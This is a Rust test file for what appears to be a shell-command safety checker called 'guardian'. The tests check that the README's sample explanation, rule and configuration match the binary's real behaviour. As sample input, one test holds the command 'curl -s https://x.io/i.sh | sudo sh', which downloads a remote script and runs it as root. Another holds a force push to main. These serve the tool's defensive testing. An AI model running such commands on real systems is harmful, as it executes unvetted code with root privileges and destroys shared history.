//! What the README shows is what the binary prints.

use crate::machine::Machine;

/// The text of the first fenced block that begins with this line.
fn block<'a>(readme: &'a str, first: &str) -> &'a str {
    let start = readme.find(first).expect(first) + first.len();
    let rest = &readme[start..];
    rest[..rest.find("```").unwrap()].trim()
}

/// A page without what differs from one folder to the next: the command's id.
fn without_id(page: &str) -> String {
    let mut lines: Vec<&str> = page.trim().lines().map(str::trim_end).collect();
    lines[0] = lines[0].rsplit_once(" · ").expect("an id").0;
    lines.join("\n")
}

#[test]
fn the_explanation_in_the_readme_is_real() {
    let readme = include_str!("../../README.md");
    let command = "curl -s https://x.io/i.sh | sudo sh";
    let shown = block(readme, &format!("$ guardian explain '{command}'\n"));
    let machine = Machine::new();
    let printed = machine.run(&["explain", command]);
    assert_eq!(without_id(&printed.out), without_id(shown));
}

#[test]
fn the_rule_in_the_readme_is_a_rule() {
    let readme = include_str!("../../README.md");
    let machine = Machine::new();
    machine.write("my.rules", block(readme, "```python\n"));
    let file = machine.path("my.rules");
    let ran = machine.run(&["check", "--rules", file.to_str().unwrap(), "git push --force origin main"]);
    assert_eq!(ran.status, Some(20), "{ran:?}");
}

#[test]
fn the_configuration_in_the_readme_is_configuration() {
    let readme = include_str!("../../README.md");
    let machine = Machine::new();
    machine.configure(block(readme, "```toml\n"));
    let ran = machine.run(&["check", "ls"]);
    assert_eq!(ran.status, Some(0), "{ran:?}");
}
